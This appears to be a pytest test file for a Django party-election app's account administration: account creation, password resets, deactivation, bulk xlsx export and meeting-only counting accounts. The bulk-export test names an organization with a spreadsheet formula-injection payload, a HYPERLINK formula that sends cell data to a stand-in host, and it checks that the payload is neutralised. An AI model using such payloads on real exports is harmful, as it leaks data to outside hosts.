"""Accounts managed by the organization department: create, change, reset, deactivate, in bulk;
meeting-only counting accounts; the holder changes a password someone else chose."""

from __future__ import annotations

import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests import factories as f
from tests.counting.world import open_round_world
from xuanju.account_admin import actions
from xuanju.accounts.models import User
from xuanju.audit.models import AuditRecord
from xuanju.counting import actions as counting
from xuanju.elections.models import Meeting
from xuanju.organizations.actions import ActionError

pytestmark = pytest.mark.django_db


def signs_in(username: str, password: str) -> User | None:
    """The account that ``username`` and ``password`` sign in to, if any."""
    account = User.objects.filter(username=username).first()
    return account if account and account.is_active and account.check_password(password) else None


@pytest.fixture
def tree():
    tree = f.county_tree()
    f.account("town", tree.town, "org_department")
    return tree


def town_client() -> Client:
    return f.client_for(User.objects.get(username="town"))


def test_a_department_creates_an_account_beneath_and_the_holder_must_change_its_password(tree):
    client = town_client()
    page = client.post(
        reverse("account_create"),
        {"username": "dongcun", "display_name": "王芳", "role": "secretary", "organization": tree.village.pk},
    )
    assert page.status_code == 200
    account = User.objects.get(username="dongcun")
    assert (account.organization, account.role, account.must_change_password) == (
        tree.village,
        "secretary",
        True,
    )
    text = page.content.decode()
    password = text.split('密码</dt><dd class="code-big">')[1].split("<")[0]
    assert signs_in(username="dongcun", password=password) == account
    assert page["Cache-Control"] == "no-store"
    created = AuditRecord.objects.get(action="create_account", object_id=str(account.pk))
    assert created.actor == "town" and "dongcun" in created.summary
    assert password not in str(created.after) and "password" not in (created.after or {})

    holder = Client()
    holder.post(reverse("login"), {"username": "dongcun", "password": password})
    response = holder.get(reverse("organization_detail", args=[tree.village.pk]))
    assert response.status_code == 302 and response["Location"] == reverse("password_change")
    changed = holder.post(
        reverse("password_change"),
        {"old_password": password, "new_password1": "东村支部-2026-新", "new_password2": "东村支部-2026-新"},
    )
    assert changed.status_code == 302
    account.refresh_from_db()
    assert not account.must_change_password
    assert holder.get(reverse("organization_detail", args=[tree.village.pk])).status_code == 200
    assert AuditRecord.objects.filter(action="change_own_password", actor="dongcun").exists()


def test_a_taken_or_malformed_user_name_is_refused_in_chinese(tree):
    actions.create_account("town", "dongcun", "王芳", tree.village, "secretary")
    with pytest.raises(ActionError, match="已被使用"):
        actions.create_account("town", "DongCun", "李强", tree.village, "member")
    with pytest.raises(ActionError, match="不能有空格"):
        actions.create_account("town", "dong cun", "李强", tree.village, "member")
    with pytest.raises(ActionError, match="没有“boss”这种角色"):
        actions.create_account("town", "boss", "李强", tree.village, "boss")


def test_reach_is_the_departments_subtree(tree):
    town = User.objects.get(username="town")
    with pytest.raises(ActionError, match="不能管理“中共示范县第一中学委员会”的账号"):
        actions.create_account(town, "x1", "某", tree.school, "secretary")
    secretary = f.account("village", tree.village, "secretary")
    with pytest.raises(ActionError, match="只有本级及上级党组织的组织部门"):
        actions.create_account(secretary, "x2", "某", tree.village, "member")
    target = actions.create_account(town, "x3", "某", tree.village, "member").account
    with pytest.raises(ActionError):
        actions.change_account(town, target, "secretary", tree.school)
    actions.change_account(town, target, "secretary", tree.town)
    target.refresh_from_db()
    assert (target.organization, target.role) == (tree.town, "secretary")
    with pytest.raises(ActionError, match="不能修改自己"):
        actions.change_account(town, town, "member", tree.town)


def test_reset_and_deactivate_are_audited_and_never_delete(tree):
    town = User.objects.get(username="town")
    issued = actions.create_account(town, "dongcun", "王芳", tree.village, "secretary")
    account = issued.account
    actions.password_changed(account)
    client = town_client()
    page = client.post(reverse("account_reset", args=[account.pk]))
    new = page.content.decode().split('密码</dt><dd class="code-big">')[1].split("<")[0]
    account.refresh_from_db()
    assert account.must_change_password
    assert signs_in(username="dongcun", password=new) == account
    assert signs_in(username="dongcun", password=issued.password) is None

    client.post(reverse("account_active", args=[account.pk]), {"active": "0"})
    account.refresh_from_db()
    assert not account.is_active and signs_in(username="dongcun", password=new) is None
    assert AuditRecord.objects.filter(action="deactivate_account", object_id=str(account.pk)).exists()
    with pytest.raises(ActionError, match="不能停用自己"):
        actions.set_active(town, town, False)
    client.post(reverse("account_active", args=[account.pk]), {"active": "1"})
    account.refresh_from_db()
    assert account.is_active
    assert [
        r.action for r in AuditRecord.objects.filter(object_id=str(account.pk), object_type="accounts.user")
    ] == [
        "create_account",
        "change_own_password",
        "reset_password",
        "deactivate_account",
        "activate_account",
    ]


def test_bulk_secretaries_give_an_xlsx_whose_passwords_work_and_whose_text_is_never_a_formula(tree):
    evil = f.org(tree.town, '=HYPERLINK("http://x.example/?"&A1,"点我")', "branch", "village")
    f.account("village_has_one", tree.village, "secretary")
    response = town_client().post(
        reverse("account_bulk_secretaries"), {"top": tree.town.pk, "username_prefix": "sj"}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith(
        "application/vnd.openxmlformats"
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    by_org = {row[0]: row for row in rows}
    # the town and the evil branch get one each; the village had a secretary already
    assert set(by_org) == {tree.town.name, evil.name}
    for org_name, _name, role, username, password, _note in rows:
        assert role == "书记/组织员"
        account = signs_in(username=username, password=password)
        assert account is not None and account.organization.name == org_name and account.must_change_password
    cell = next(c for c in sheet["A"] if c.value == evil.name)
    assert cell.data_type == "s" and cell.quotePrefix
    assert User.objects.get(organization=evil).username == f"sj{evil.pk}"


def test_member_accounts_are_linked_to_the_roster(tree):
    people = [f.member(tree.village, name) for name in ("王芳", "李强")]
    response = town_client().post(
        reverse("account_bulk_members", args=[tree.village.pk]),
        {"members": [p.pk for p in people], "role": "member"},
    )
    assert response.status_code == 200
    linked = {a.member_id: a for a in User.objects.filter(member__in=people)}
    assert set(linked) == {p.pk for p in people}
    assert {a.display_name for a in linked.values()} == {"王芳", "李强"}
    with pytest.raises(ActionError, match="都已有账号"):
        actions.member_accounts("town", people)


@pytest.mark.rule("R-MEET-4")
def test_meeting_accounts_count_in_that_meeting_only_and_expire_when_it_ends():
    world = open_round_world(timezone.localdate(), issued=3)
    secretary = f.client_for(world.accounts["secretary"])
    slips = secretary.post(reverse("meeting_accounts", args=[world.meeting.pk]))
    assert slips.status_code == 200 and "登录凭条" in slips.content.decode()
    accounts = list(User.objects.filter(meeting=world.meeting).order_by("pk"))
    assert sorted(a.role for a in accounts) == ["counter", "counter", "scrutineer", "scrutineer"]
    text = slips.content.decode()
    assert all(a.username in text for a in accounts) and not any(a.must_change_password for a in accounts)
    # once more: everyone has one; reissuing replaces the passwords
    again = secretary.post(reverse("meeting_accounts", args=[world.meeting.pk]), follow=True)
    assert "都已有本次会议的账号" in again.content.decode()

    counter = next(a for a in accounts if a.role == "counter")
    keys = world.keys()
    counting.enter_at_desk(counter, world.round, "1", 1, keys[:5], [], [])
    other = Meeting.objects.create(
        election=world.election, kind=Meeting.Kind.PLENARY, held_on=timezone.localdate()
    )
    counter.meeting = other
    with pytest.raises(ActionError, match="只用于另一次会议"):
        counting.enter_at_desk(counter, world.round, "2", 1, keys[:5], [], [])
    counter.meeting = world.meeting

    password = actions.reset_password("village", counter).password
    client = Client()
    client.post(reverse("login"), {"username": counter.username, "password": password})
    assert client.get(reverse("home"), follow=True).status_code == 200
    Meeting.objects.filter(pk=world.meeting.pk).update(closed=True)
    response = client.get(reverse("organization_detail", args=[world.election.organization_id]))
    assert response.status_code == 302 and response["Location"] == reverse("login")
    refused = Client().post(reverse("login"), {"username": counter.username, "password": password})
    assert "会议已结束" in refused.content.decode()
    counter.refresh_from_db()
    with pytest.raises(ActionError, match="会议已结束"):
        counting.enter_at_desk(counter, world.round, "2", 1, keys[:5], [], [])
